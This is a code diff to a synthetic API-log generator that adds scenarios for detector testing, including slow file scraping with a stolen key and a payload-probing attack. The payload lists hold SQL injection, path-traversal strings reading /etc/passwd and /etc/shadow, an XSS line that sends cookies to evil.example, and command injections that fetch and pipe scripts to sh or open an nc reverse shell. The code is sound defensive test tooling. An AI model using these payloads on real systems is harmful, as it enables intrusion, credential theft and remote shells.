@@ -61,6 +61,16 @@ Scenarios (``SCENARIOS``; each placed at a seeded time in the window, from its o
 - ``exfiltration``: one user's key lists files, then downloads 60-150 ``/v1/files/{file_id}/content``
   with large responses (tens of MB each) within 20 minutes.
 - ``token_spike``: one key's output tokens per request jump ~20x for 10 minutes (from a new IP).
+- ``slow_scraping``: a stolen key, from a new cloud IP, enumerates file contents by guessed ids and pages
+  through the file list, one request every 10-40 seconds for an hour: low volume, many 404s, many paths.
+
+Content scenarios (``CONTENT_SCENARIOS``: their events go beyond the fixed schema above, so they are kept
+apart from ``SCENARIOS``; ``generate_api_access`` accepts both):
+
+- ``payload_attack``: one key, from a new IP, probes the API with SQL injection, XSS, path traversal and
+  command injection payloads in the path, the query and (for POST/PUT) an extra ``body`` key (str, the
+  request body, appended after ``tls_version``), sometimes with unusual methods (PUT, DELETE, TRACE);
+  40-100 requests in ~10 minutes, half of them with a scanner user agent, answered 400/403/404/405.
 
 All events lie in ``[start, start + duration)`` and come out in non-decreasing timestamp order.
 """
@@ -83,6 +93,7 @@ import orjson
 
 __all__ = [
     "ATTACKER_NETWORKS",
+    "CONTENT_SCENARIOS",
     "SCENARIOS",
     "Scenario",
     "SyntheticEvent",
@@ -168,6 +179,8 @@ _SCENARIO_PREFIXES: dict[str, tuple[str, ...]] = {
     "key_leak": tuple(p for p, _ in _LEAK_PREFIXES),
     "exfiltration": ("5.253",),
     "token_spike": ("154.47",),
+    "slow_scraping": ("167.99",),
+    "payload_attack": ("193.37",),
 }
 ATTACKER_NETWORKS: dict[str, tuple[str, ...]] = {
     name: tuple(f"{p}.0.0/16" for p in prefixes) for name, prefixes in _SCENARIO_PREFIXES.items()
@@ -700,6 +713,103 @@ def _token_spike(rng: random.Random, world: _World, t0: int, span: int) -> list[
     return out
 
 
+def _slow_scraping(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
+    user = world.users[world.keyed.pick(rng)]
+    actor = _Actor(_ipv4(rng, "167.99"), (), rng.choice(user.keys), "api_key", False, "python-httpx/0.25.2", "TLSv1.3")
+    out = []
+    ms = t0 + rng.randrange(5_000)
+    while ms < t0 + span:
+        if rng.random() < 0.1:
+            raw = _api_event(rng, ms, actor, user, "files_list", 200)
+            raw["query"] = f"limit=100&after=file_{_rand_str(rng, 20, _ALNUM)}"
+        else:
+            found = rng.random() < 0.3
+            raw = _api_event(rng, ms, actor, user, "file_content", 200 if found else 404)
+            raw["path"] = f"/v1/files/file_{_rand_str(rng, 20, _ALNUM)}/content"
+        out.append((ms, raw))
+        ms += 10_000 + rng.randrange(30_000)
+    return out
+
+
+_SCANNER_UAS = (
+    "sqlmap/1.8.4#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.5.0)",
+    "python-requests/2.32.3",
+    "curl/8.5.0",
+    "Go-http-client/1.1",
+)
+_TRAVERSALS = (
+    "../../../../etc/passwd",
+    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
+    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
+    "....//....//....//windows/win.ini",
+    "..\\..\\..\\boot.ini",
+    "%2e%2e/%2e%2e/proc/self/environ",
+)
+_SQLI = (
+    "' OR '1'='1",
+    "1 UNION SELECT username,password FROM users--",
+    "1; SELECT pg_sleep(10)--",
+    "1%27%20OR%201%3D1--%20",
+    "admin'/**/OR/**/1=1#",
+    "1) AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
+)
+_XSS = (
+    "<script>alert(document.cookie)</script>",
+    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
+    "javascript:alert(String.fromCharCode(88,83,83))",
+)
+_CMDI = (
+    "test;cat /etc/passwd",
+    "x|id",
+    "$(curl -s http://203.0.113.9/s.sh|sh)",
+    "`wget http://203.0.113.9/x -O-|sh`",
+    "a&&nc -e /bin/sh 203.0.113.9 4444",
+)
+_PAYLOAD_PARAMS = ("purpose", "limit", "after", "order", "file", "name", "q")
+
+
+def _payload_request(rng: random.Random) -> tuple[str, str, str, str, str | None]:
+    """(method, path, route, query, body) of one probe."""
+    family = rng.choice(("sqli", "xss", "traversal", "cmdi"))
+    payload = rng.choice({"sqli": _SQLI, "xss": _XSS, "traversal": _TRAVERSALS, "cmdi": _CMDI}[family])
+    where = "path" if family == "traversal" and rng.random() < 0.7 else rng.choice(("query", "query", "body"))
+    method = "POST" if where == "body" else "GET"
+    if rng.random() < 0.15:
+        method = rng.choice(("PUT", "DELETE", "TRACE"))
+    if where == "path":
+        path = rng.choice(("/v1/files/{}/content", "/v1/files/{}", "/v1/batches/{}")).format(payload)
+        return method, path, path, "", None
+    if where == "query":
+        param = rng.choice(_PAYLOAD_PARAMS)
+        query = f"{param}={payload}" if rng.random() < 0.5 else f"limit=20&{param}={payload}"
+        return method, "/v1/files", "/v1/files", query, None
+    method = "PUT" if method == "PUT" else "POST"
+    route = rng.choice(("/v1/files", "/v1/batches", "/v1/chat/completions"))
+    field = rng.choice(("purpose", "metadata", "model", "name"))
+    body = orjson.dumps({field: payload, "input_file_id": f"file_{_rand_str(rng, 20, _ALNUM)}"}).decode()
+    return method, route, route, "", body
+
+
+def _payload_attack(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
+    user = world.users[world.keyed.pick(rng)]
+    ip = _ipv4(rng, "193.37")
+    out = []
+    for ms in _spread(rng, t0, span, rng.randint(40, 100)):
+        ua = _SCANNER_UAS[0] if rng.random() < 0.5 else rng.choice(_SCANNER_UAS[1:])
+        actor = _Actor(ip, (), user.keys[0], "api_key", False, ua, "TLSv1.3")
+        method, path, route, query, body = _payload_request(rng)
+        status = rng.choices((400, 403, 404, 405, 500, 200), (0.4, 0.15, 0.25, 0.1, 0.05, 0.05))[0]
+        latency, b_out = _error_shape(rng, status)
+        b_in = len(body) if body else 0
+        raw = _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in, b_out)
+        if body is not None:
+            raw["body"] = body
+        out.append((ms, raw))
+    return out
+
+
 SCENARIOS: dict[str, Scenario] = {
     s.name: s
     for s in (
@@ -713,9 +823,22 @@ SCENARIOS: dict[str, Scenario] = {
                  _exfiltration),
         Scenario("token_spike", "one key's output tokens per request jump ~20x", timedelta(minutes=10),
                  _token_spike),
+        Scenario("slow_scraping", "a stolen key slowly enumerates file contents from a new IP",
+                 timedelta(minutes=60), _slow_scraping),
     )
 }  # fmt: skip
-"""Available scenarios by name."""
+"""Available scenarios by name (their events follow the fixed raw schema)."""
+
+CONTENT_SCENARIOS: dict[str, Scenario] = {
+    s.name: s
+    for s in (
+        Scenario("payload_attack", "SQLi, XSS, traversal and command injection probes in path, query and body",
+                 timedelta(minutes=10), _payload_attack),
+    )
+}  # fmt: skip
+"""Scenarios whose events extend the raw schema (an optional ``body`` key, any method, unrouted paths)."""
+
+_ALL_SCENARIOS: dict[str, Scenario] = {**SCENARIOS, **CONTENT_SCENARIOS}
 
 
 def _scenario_events(
@@ -723,9 +846,9 @@ def _scenario_events(
 ) -> list[SyntheticEvent]:
     rng = random.Random(f"logwarden-synthetic:{seed}:{name}:{occurrence}")
     window = end_ms - start_ms
-    span = min(SCENARIOS[name].span // timedelta(milliseconds=1), int(window * 0.9))
+    span = min(_ALL_SCENARIOS[name].span // timedelta(milliseconds=1), int(window * 0.9))
     t0 = start_ms + int(rng.random() * (window - span))
-    built = SCENARIOS[name].build(rng, world, t0, span)
+    built = _ALL_SCENARIOS[name].build(rng, world, t0, span)
     built.sort(key=lambda item: item[0])
     return [SyntheticEvent(raw, name) for ms, raw in built if ms < end_ms]
 
@@ -754,10 +877,10 @@ def generate_api_access(
     (True, True)
     """
     names = [scenarios] if isinstance(scenarios, str) else list(scenarios)
-    unknown = [n for n in names if n not in SCENARIOS]
+    unknown = [n for n in names if n not in _ALL_SCENARIOS]
     if unknown:
         bad = ", ".join(map(repr, unknown))
-        raise ValueError(f"unknown scenario(s) {bad}; valid scenarios: {', '.join(SCENARIOS)}")
+        raise ValueError(f"unknown scenario(s) {bad}; valid scenarios: {', '.join(_ALL_SCENARIOS)}")
     if start.tzinfo is None:
         raise ValueError("start must be timezone-aware (UTC)")
     if duration <= timedelta(0):
